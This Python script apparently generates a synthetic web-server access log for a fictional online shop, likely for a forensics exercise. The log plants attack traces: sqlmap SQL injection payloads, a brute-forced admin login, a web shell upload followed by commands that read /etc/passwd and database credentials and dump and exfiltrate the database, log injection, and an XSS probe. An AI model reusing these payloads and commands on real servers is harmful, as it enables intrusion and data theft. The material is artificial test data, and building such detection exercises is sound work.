from common import *
r=rng(101); L=[]
V='shop.nordlicht-outdoor.de:443'
UA=['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36','Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1','Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0','Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15']
GB='Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
def add(t,ip,req,st,size,ref='-',ua=None,user='-',v=V):
    L.append((t,f'{v} {ip} - {user} [{t:%d}/{MON[t.month-1]}/{t:%Y:%H:%M:%S} +0200] "{req}" {st} {size} "{ref}" "{ua or UA[0]}"'))
pages=['/','/kategorie.php?k=zelte','/kategorie.php?k=schlafsaecke','/kategorie.php?k=rucksaecke','/warenkorb.php','/kasse.php','/impressum.html','/assets/app.css','/assets/app.js','/assets/logo.svg','/favicon.ico','/suche.php?q=wanderschuhe','/suche.php?q=isomatte']
for d in (10,11,12):
    day=D.datetime(2025,6,d)
    for t in day_times(r,day,2300):
        ip=f'{r.choice([79,84,87,91,93,217])}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1,255)}'
        ua=r.choice(UA)
        for k in range(r.choice([1,1,2])):
            p=r.choice(pages) if r.random()<.7 else f'/produkt.php?id={r.randrange(100,480)}'
            m='POST' if p=='/kasse.php' and r.random()<.5 else 'GET'
            st=r.choices([200,304,301,404],[86,8,2,4])[0]
            if d==11 and 14*60+5<=t.hour*60+t.minute<14*60+31 and '.php' in p: st=500 if r.random()<.6 else 503
            add(t+D.timedelta(seconds=k*2),ip,f'{m} {p} HTTP/1.1',st,0 if st==304 else r.randrange(300,42000),'-' if r.random()<.5 else 'https://shop.nordlicht-outdoor.de/',ua)
    for t in day_times(r,day,120,night=.9): add(t,f'66.249.66.{r.randrange(1,90)}',f'GET /produkt.php?id={r.randrange(100,480)} HTTP/1.1',200,r.randrange(9000,30000),ua=GB)
    for h in range(24):
        for m in range(0,60,15): add(day+D.timedelta(hours=h,minutes=m,seconds=3),'10.20.4.9','GET /health.php HTTP/1.0',200,17,ua='check_http/v2.3.3 (monitoring-plugins 2.3.3)',v='localhost:80')
    for t in day_times(r,day,25,8,17,0): add(t,'195.37.12.40',r.choice(['GET /admin/bestellungen.php HTTP/1.1','GET /admin/index.php HTTP/1.1','POST /admin/upload.php HTTP/1.1']),200,r.randrange(2000,9000),ua=UA[2],user=r.choice(['m.koehler','s.dittmar']))
# failed scanner
t=D.datetime(2025,6,10,3,12,8)
for i in range(412):
    p=r.choice(['/.env','/.git/config','/wp-login.php','/phpmyadmin/index.php','/cgi-bin/test.cgi','/backup.zip','/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php','/owa/auth/logon.aspx','/server-status'])
    add(t,'141.98.11.107',f'GET {p} HTTP/1.1',403 if p=='/server-status' else 404,r.choice([196,274]),ua='Mozilla/5.0 zgrab/0.x'); t+=D.timedelta(seconds=r.choice([0,1,1,2]))
# sqlmap
t=D.datetime(2025,6,11,22,41,17)
for i in range(638):
    pl=r.choice(["%27%20AND%201%3D1--%20-","%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71%2Cuser%28%29%2C0x71%29--%20-","%20AND%20SLEEP%285%29","%27%29%20OR%20%271%27%3D%271","%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2Cversion%28%29%29%29"])
    st=r.choices([200,500,403],[55,40,5])[0]
    add(t,'193.32.162.85',f'GET /produkt.php?id=217{pl} HTTP/1.1',st,r.randrange(900,26000),ua='sqlmap/1.8.4#stable (https://sqlmap.org)'); t+=D.timedelta(seconds=r.choice([0,1,1,1,2,6]))
# login + shell, other IP
B='193.32.162.91'; ua='Mozilla/5.0 (Windows NT 10.0; rv:115.0) Gecko/20100101 Firefox/115.0'
t=D.datetime(2025,6,11,23,52,40)
for i in range(17): add(t,B,'POST /admin/login.php HTTP/1.1',401,1189,'https://shop.nordlicht-outdoor.de/admin/login.php',ua); t+=D.timedelta(seconds=r.randrange(3,9))
add(t,B,'POST /admin/login.php HTTP/1.1',302,311,'https://shop.nordlicht-outdoor.de/admin/login.php',ua); t+=D.timedelta(seconds=2)
add(t,B,'GET /admin/index.php HTTP/1.1',200,6612,'https://shop.nordlicht-outdoor.de/admin/login.php',ua,'s.dittmar'); t+=D.timedelta(seconds=48)
add(t,B,'POST /admin/upload.php HTTP/1.1',403,214,'https://shop.nordlicht-outdoor.de/admin/upload.php',ua,'s.dittmar'); t+=D.timedelta(seconds=41)
add(t,B,'POST /admin/upload.php HTTP/1.1',200,402,'https://shop.nordlicht-outdoor.de/admin/upload.php',ua,'s.dittmar'); t+=D.timedelta(seconds=19)
add(t,B,'GET /media/uploads/logo_neu.phtml HTTP/1.1',200,0,'-',ua)
for c in ['id','uname+-a','cat+/etc/passwd','ls+-la+/var/www','cat+/var/www/shop/config/db.inc.php','mysqldump+--all-databases+%3E/tmp/.d.sql','gzip+/tmp/.d.sql','cp+/tmp/.d.sql.gz+/var/www/shop/media/uploads/saison.jpg']:
    t+=D.timedelta(seconds=r.randrange(12,70)); add(t,B,f'GET /media/uploads/logo_neu.phtml?c={c} HTTP/1.1',200,r.randrange(20,2600),'-',ua)
t+=D.timedelta(seconds=33); add(t,B,'GET /media/uploads/saison.jpg HTTP/1.1',200,48711936,'-','curl/8.5.0')
# forged line in UA + escaped quote
t=D.datetime(2025,6,12,9,14,2); add(t,'45.148.10.62','GET / HTTP/1.1',200,18211,ua='Mozilla\\" 200 1 \\"-\\" \\"x\\"\\nshop.nordlicht-outdoor.de:443 195.37.12.40 - m.koehler [12/Jun/2025:03:00:00 +0200] \\"GET /admin/export.php HTTP/1.1\\" 200 99999')
add(D.datetime(2025,6,12,9,40,11),'84.17.44.9','GET /suche.php?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E HTTP/1.1',200,5120,ua=UA[0])
L.sort(key=lambda x:x[0]); write('web/other_vhosts_access.log',[l for _,l in L])
